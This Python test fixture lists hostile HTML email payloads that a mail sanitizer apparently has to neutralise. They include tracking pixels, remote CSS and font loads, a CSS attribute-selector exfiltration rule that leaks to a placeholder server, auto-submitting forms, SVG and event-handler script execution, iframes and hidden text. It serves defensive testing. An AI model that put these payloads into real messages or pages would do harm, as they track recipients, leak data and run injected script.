"""Mail that tries to call home or to run code: HTML for each way.

`AT` is a server that listens.
"""
# ruff: noqa: E501

HOSTILE = {
    "tracking pixel": '<img src="AT/pixel.gif" width="1" height="1">',
    "srcset": '<img src="" srcset="AT/one.png 1x, AT/two.png 2x"><picture><source srcset="AT/three.png"><img></picture>',
    "CSS in a style": '<p style="background:url(AT/style.png);list-style-image:url(AT/list.png)">styled</p>',
    "CSS exfiltration": "<style>@import 'AT/import.css'; input[value^='a']{background:url(AT/leak?a)} "
    "@font-face{font-family:x;src:url(AT/font.woff2)} *{font-family:x;--v:url(AT/var.png);background:var(--v)}</style>"
    '<input value="abc">',
    "style sheet": '<link rel="stylesheet" href="AT/link.css"><link rel="preload" as="image" href="AT/preload.png">'
    '<link rel="prefetch" href="AT/prefetch"><link rel="dns-prefetch" href="AT"><link rel="icon" href="AT/icon.png">',
    "form": '<form action="AT/form" method="post" id="f"><input name="a" autofocus onfocus="ran(1)"></form>'
    '<script>document.forms[0].submit()</script><button form="f" formaction="AT/other">Go</button>',
    "SVG": '<svg onload="ran(2)"><script>ran(3)</script><image href="AT/svg.png"/><use href="AT/use.svg#x"/>'
    '<foreignObject><img src="AT/foreign.png" onerror="ran(4)"></foreignObject><animate onbegin="ran(5)"/></svg>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=AT/refresh"><base href="AT/">',
    "scripts": "<script>ran(6);fetch('AT/fetch');top.location='AT/top';new Image().src='AT/new'</script>"
    '<script src="AT/script.js"></script><script type="module">ran(7);import("AT/module.js")</script>',
    "handlers": '<img src="x:" onerror="ran(8)"><body onload="ran(9)"><details open ontoggle="ran(10)">x</details>'
    '<a href="javascript:ran(11)" id="link">link</a><video onerror="ran(12)"><source src="x:"></video>',
    "frames": '<iframe src="AT/frame"></iframe><iframe srcdoc="<script>parent.ran(13)</script><img src=AT/srcdoc>"></iframe>'
    '<object data="AT/object"></object><embed src="AT/embed"><frameset><frame src="AT/frameset"></frameset>',
    "media": '<video poster="AT/poster.png" src="AT/video.mp4" autoplay></video><audio src="AT/audio.mp3" autoplay></audio>'
    '<track src="AT/track.vtt"><input type="image" src="AT/input.png">',
    "nested tables": "<table background='AT/table.png'><tr><td>" * 60
    + "deep <img src='AT/deep.png'>"
    + "</table>" * 60,
    "hidden text": '<div style="display:none">hidden one<img src="AT/hidden.png"></div><p style="font-size:0">hidden two</p>'
    '<p style="color:#fff">hidden three</p><p hidden>hidden four</p>',
    "links": '<a href="AT/click" ping="AT/ping" target="_top">a link</a><map name="m"><area href="AT/area"></map>',
}
